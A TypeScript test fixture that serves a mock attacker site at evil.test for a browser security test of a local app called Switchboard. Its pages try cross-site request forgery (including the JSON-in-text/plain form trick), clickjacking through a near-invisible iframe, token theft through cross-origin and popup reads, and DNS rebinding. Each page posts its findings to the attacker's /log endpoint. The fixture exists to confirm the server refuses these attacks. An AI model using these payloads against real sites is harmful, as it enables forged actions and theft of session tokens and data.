// The attacker's web site for the browser-attack spec: a node:http server on 127.0.0.1 port 0 that Chromium reaches
// as http://evil.test:<port>/ through the attack project's resolver rules. Its pages attack the Switchboard server
// from another origin — forged posts (CSRF), framing (clickjacking), reading the page or the API (token theft) — and
// post whatever they managed to see to /log, so a test asserts on what a real attacker would have obtained. The
// forged host calls are ones that would leave a trace: a planted library entry, and a fetchRaw of /canary here, so a
// host that carried one out is caught by `canaryHits`.

import {
  request as httpRequest,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type ServerResponse,
} from 'node:http';
import { TOKEN_HEADER } from '../../../shared/host/webBridge';
import { FOREIGN_HOSTS } from './chromiumArgs';
import { listenLocal } from './testServer';

export interface AttackerNote {
  step: string;
  value: string;
}

export interface AttackerReport {
  attack: string;
  notes: AttackerNote[];
}

export type AttackerPage = 'csrf' | 'frame' | 'steal';

export interface AttackerSite {
  /** http://evil.test:<port>, the origin the attacks come from. */
  origin: string;
  url(page: AttackerPage): string;
  /** Every report the attacker's pages posted, in order of arrival. */
  reports: AttackerReport[];
  /** The notes of every report of one attack. */
  notes(attack: string): AttackerNote[];
  /** The forged calls' JSON bodies; fetchRaw's asks the host to fetch /canary here. */
  calls: { saveLibrary: string; fetchRaw: string };
  /** Requests that reached /canary: only a host carrying out a forged fetchRaw makes them. */
  canaryHits(): number;
  /** The page a DNS-rebinding attacker serves first under the foreign name, before the name points at the app. */
  rebindingPage(leakedToken: string): string;
  close(): Promise<void>;
}

/** A plausible 256-bit token in the server's format, which an attacker can only guess. */
export const GUESSED_TOKEN = 'A'.repeat(43);

/** The library entry the forged saveLibrary calls try to plant. */
export const PLANTED_AGENT = { url: 'http://evil.test/planted-agent', name: 'Planted by evil.test' };

/** The JSON bodies (argument arrays) of the forged host calls, as the renderer's bridge would send them. */
export function forgedCalls(canaryUrl: string): { saveLibrary: string; fetchRaw: string } {
  return {
    saveLibrary: JSON.stringify([{ entries: [PLANTED_AGENT] }]),
    fetchRaw: JSON.stringify([{ method: 'GET', url: canaryUrl }]),
  };
}

export async function startAttackerSite(appPort: number): Promise<AttackerSite> {
  const reports: AttackerReport[] = [];
  let canary = 0;
  // Filled once the port is known: the pages name their own origin.
  const pages = new Map<string, string>();
  const server = await listenLocal((req, res) => {
    const path = (req.url ?? '/').split('?')[0];
    if (path === '/canary') {
      canary += 1;
      return send(res, 200, 'text/plain', 'canary');
    }
    if (path === '/log' && req.method === 'POST') return collect(req, res, reports);
    const page = pages.get(path ?? '');
    if (req.method === 'GET' && page !== undefined) return send(res, 200, 'text/html; charset=utf-8', page);
    send(res, 404, 'text/plain', 'not here');
  });
  const port = new URL(server.url).port;
  const origin = `http://${FOREIGN_HOSTS.evil}:${port}`;
  const context: PageContext = {
    app: `http://127.0.0.1:${appPort}`,
    appByName: `http://localhost:${appPort}`,
    logUrl: `${origin}/log`,
    calls: forgedCalls(`${server.url}/canary`),
  };
  pages.set('/csrf', csrfPage(context)).set('/frame', framePage(context)).set('/steal', stealPage(context));
  return {
    origin,
    url: (page) => `${origin}/${page}`,
    reports,
    calls: context.calls,
    notes: (attack) => reports.filter((r) => r.attack === attack).flatMap((r) => r.notes),
    canaryHits: () => canary,
    rebindingPage: (leakedToken) => rebindingPage(context, leakedToken),
    close: () => server.close(),
  };
}

/**
 * What the server answers a request from `origin` that a browser would send, here a CORS preflight or a plain
 * read: the status and the CORS headers, which must never let another origin read the answer.
 */
export function askFromOrigin(
  appPort: number,
  request: { method: string; path: string; origin: string; headers?: Record<string, string> },
): Promise<{ status: number; headers: IncomingHttpHeaders }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port: appPort,
        method: request.method,
        path: request.path,
        headers: { Origin: request.origin, ...request.headers },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers }));
      },
    );
    req.on('error', reject);
    req.end();
  });
}

function send(res: ServerResponse, status: number, type: string, body: string): void {
  res.writeHead(status, { 'Content-Type': type, 'Cache-Control': 'no-store' });
  res.end(body);
}

function collect(req: IncomingMessage, res: ServerResponse, reports: AttackerReport[]): void {
  const chunks: Buffer[] = [];
  req.on('data', (chunk: Buffer) => chunks.push(chunk));
  req.on('end', () => {
    reports.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as AttackerReport);
    send(res, 204, 'text/plain', '');
  });
}

interface PageContext {
  app: string;
  appByName: string;
  logUrl: string;
  calls: { saveLibrary: string; fetchRaw: string };
}

/** Data for a page's script, as a JSON literal that cannot close the <script> element it sits in. */
function scriptData(value: unknown): string {
  return JSON.stringify(value).replace(/</g, '\\u003c');
}

function attr(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}

// Helpers every attacker page starts with: `note` keeps what the page could see, `report` posts it to the log
// (no-cors, so it also works from the rebinding origin), `attempt` turns a fetch into what its caller could read.
const PRELUDE = `
const notes = [];
const note = (step, value) => notes.push({ step, value: String(value) });
const report = (attack) =>
  fetch(LOG_URL, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ attack, notes: notes.splice(0) }) });
const attempt = async (request) => {
  try {
    const response = await request;
    return response.type + ' ' + response.status + ' ' + (await response.text());
  } catch (error) {
    return error.name + ': ' + error.message;
  }
};
const tryRead = (read) => {
  try {
    return read();
  } catch (error) {
    return error.name + ': ' + error.message;
  }
};
`;

function page(title: string, body: string, logUrl: string, script: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}
<script>const LOG_URL = ${scriptData(logUrl)};${PRELUDE}${script}</script></body></html>`;
}

/**
 * A text/plain form sends `name=value`: splitting a JSON body before its last quote and using the halves as name
 * and value smuggles valid JSON through (the `=` lands inside the last string), the classic JSON CSRF.
 */
function smuggledFields(body: string): [string, string] {
  const cut = body.lastIndexOf('"');
  return [body.slice(0, cut), body.slice(cut)];
}

interface FormAttack {
  step: string;
  action: string;
  enctype: string;
  fields: Array<[string, string]>;
}

function csrfPage({ app, logUrl, calls }: PageContext): string {
  const guessed = `?${TOKEN_HEADER}=${GUESSED_TOKEN}`;
  const forms: FormAttack[] = [
    {
      step: 'form text/plain → saveLibrary',
      action: `${app}/api/saveLibrary`,
      enctype: 'text/plain',
      fields: [smuggledFields(calls.saveLibrary)],
    },
    {
      step: 'form text/plain → fetchRaw',
      action: `${app}/api/fetchRaw`,
      enctype: 'text/plain',
      fields: [smuggledFields(calls.fetchRaw)],
    },
    {
      step: 'form urlencoded + guessed token → saveLibrary',
      action: `${app}/api/saveLibrary${guessed}`,
      enctype: 'application/x-www-form-urlencoded',
      fields: [
        [TOKEN_HEADER, GUESSED_TOKEN],
        ['args', calls.saveLibrary],
      ],
    },
    {
      step: 'form multipart + guessed token → fetchRaw',
      action: `${app}/api/fetchRaw${guessed}`,
      enctype: 'multipart/form-data',
      fields: [
        [TOKEN_HEADER, GUESSED_TOKEN],
        ['args', calls.fetchRaw],
      ],
    },
  ];
  const html = forms
    .map((form, i) => {
      const inputs = form.fields
        .map(([name, value]) => `<input type="hidden" name="${attr(name)}" value="${attr(value)}">`)
        .join('');
      return `<iframe name="sink-${i}"></iframe><form method="POST" target="sink-${i}" action="${attr(form.action)}"
        enctype="${form.enctype}" data-step="${attr(form.step)}">${inputs}</form>`;
    })
    .join('\n');
  const plan = {
    fetches: [
      {
        step: 'fetch no-cors with credentials → saveLibrary',
        url: `${app}/api/saveLibrary`,
        init: { method: 'POST', mode: 'no-cors', credentials: 'include', body: calls.saveLibrary },
      },
      {
        // In no-cors mode the browser drops the token header and the JSON content type: the request still goes out.
        step: 'fetch no-cors + guessed token → fetchRaw',
        url: `${app}/api/fetchRaw`,
        init: {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'include',
          headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: GUESSED_TOKEN },
          body: calls.fetchRaw,
        },
      },
      {
        step: 'fetch cors + guessed token → saveLibrary',
        url: `${app}/api/saveLibrary`,
        init: {
          method: 'POST',
          credentials: 'include',
          headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: GUESSED_TOKEN },
          body: calls.saveLibrary,
        },
      },
    ],
    beacons: [
      { step: 'beacon text/plain → saveLibrary', url: `${app}/api/saveLibrary`, body: calls.saveLibrary },
      {
        step: 'beacon application/json → fetchRaw',
        url: `${app}/api/fetchRaw`,
        body: calls.fetchRaw,
        type: 'application/json',
      },
    ],
  };
  return page(
    'You won a prize',
    html,
    logUrl,
    `
const plan = ${scriptData(plan)};
(async () => {
  const forms = [...document.forms];
  const sink = (form) => document.getElementsByName(form.target)[0];
  const landed = forms.map((form) => new Promise((resolve) => sink(form).addEventListener('load', resolve, { once: true })));
  for (const form of forms) form.submit();
  for (const { step, url, init } of plan.fetches) note(step, await attempt(fetch(url, init)));
  for (const { step, url, body, type } of plan.beacons) {
    note(step, 'queued: ' + tryRead(() => navigator.sendBeacon(url, type ? new Blob([body], { type }) : body)));
  }
  await Promise.all(landed);
  for (const form of forms) {
    note(form.dataset.step, 'landed; document readable: ' + tryRead(() => sink(form).contentDocument !== null));
  }
  note('done', '');
  await report('csrf');
})();
`,
  );
}

function framePage({ app, logUrl }: PageContext): string {
  return page(
    'Click the button',
    `<iframe id="app" src="${attr(app)}/" width="900" height="600" style="opacity:0.01;position:absolute"></iframe>
<button>Claim your prize</button>`,
    logUrl,
    `
const frame = document.getElementById('app');
frame.addEventListener('load', async () => {
  note('frame contentDocument', tryRead(() => frame.contentDocument === null ? 'null' : frame.contentDocument.documentElement.outerHTML));
  note('frame document', tryRead(() => frame.contentWindow.document.documentElement.outerHTML));
  note('frame location', tryRead(() => frame.contentWindow.location.href));
  note('done', '');
  await report('frame');
}, { once: true });
`,
  );
}

function stealPage({ app, appByName, logUrl, calls }: PageContext): string {
  const reads = [
    ['cors read of the page', `${app}/`, {}],
    ['cors read of the page by name', `${appByName}/`, {}],
    ['no-cors read of the page', `${app}/`, { mode: 'no-cors', credentials: 'include' }],
    [
      'cors call with credentials + guessed token → getInfo',
      `${app}/api/getInfo`,
      {
        method: 'POST',
        credentials: 'include',
        headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: GUESSED_TOKEN },
        body: '[]',
      },
    ],
    [
      'no-cors call with credentials → loadLibrary',
      `${app}/api/loadLibrary`,
      { method: 'POST', mode: 'no-cors', credentials: 'include', body: '[]' },
    ],
    [
      'cors call with credentials → fetchRaw',
      `${app}/api/fetchRaw`,
      { method: 'POST', credentials: 'include', body: calls.fetchRaw },
    ],
  ];
  return page(
    'Free stuff',
    `<button id="lure">Open the app</button><button id="probe">Look inside</button>`,
    logUrl,
    `
const APP = ${scriptData(app)};
window.addEventListener('message', (event) => note('message from ' + event.origin, JSON.stringify(event.data)));
(async () => {
  for (const [step, url, init] of ${scriptData(reads)}) note(step, await attempt(fetch(url, init)));
  note('script include of the page', await new Promise((resolve) => {
    const script = document.createElement('script');
    script.src = APP + '/';
    script.onload = () => resolve('loaded');
    script.onerror = () => resolve('error');
    document.head.append(script);
  }));
  note('done', '');
  await report('steal');
})();
let popup = null;
document.getElementById('lure').addEventListener('click', () => {
  popup = window.open(APP + '/', 'switchboard');
  note('window.open', popup === null ? 'blocked' : 'got a handle');
});
document.getElementById('probe').addEventListener('click', async () => {
  note('popup.closed', tryRead(() => popup.closed));
  note('popup document', tryRead(() => popup.document.documentElement.outerHTML));
  note('popup token meta', tryRead(() => popup.document.querySelector('meta[name="switchboard-token"]').content));
  note('popup location', tryRead(() => popup.location.href));
  note('popup globals', tryRead(() => Object.keys(popup).join(',')));
  note('popup frames', tryRead(() => popup.length));
  for (const message of [{ type: 'token?' }, 'switchboard-token', { method: 'getInfo', args: [] }]) {
    note('postMessage to popup', tryRead(() => { popup.postMessage(message, '*'); return 'sent'; }));
  }
  note('done', '');
  await report('popup');
});
`,
  );
}

function rebindingPage({ logUrl, calls }: PageContext, leakedToken: string): string {
  const attempts = [
    ['read of / under the foreign name', '/', {}],
    ['read of /index.html under the foreign name', '/index.html', {}],
    [
      'getInfo + guessed token',
      '/api/getInfo',
      {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: GUESSED_TOKEN },
        body: '[]',
      },
    ],
    [
      'saveLibrary + guessed token',
      '/api/saveLibrary',
      {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: GUESSED_TOKEN },
        body: calls.saveLibrary,
      },
    ],
    // Defence in depth: the Host check alone refuses the call even if the token had leaked some other way.
    [
      'fetchRaw + the real token',
      '/api/fetchRaw',
      {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', [TOKEN_HEADER]: leakedToken },
        body: calls.fetchRaw,
      },
    ],
  ];
  return page(
    'Loading…',
    '',
    logUrl,
    `
(async () => {
  for (const [step, url, init] of ${scriptData(attempts)}) note(step, await attempt(fetch(url, init)));
  note('done', '');
  await report('rebinding');
})();
`,
  );
}
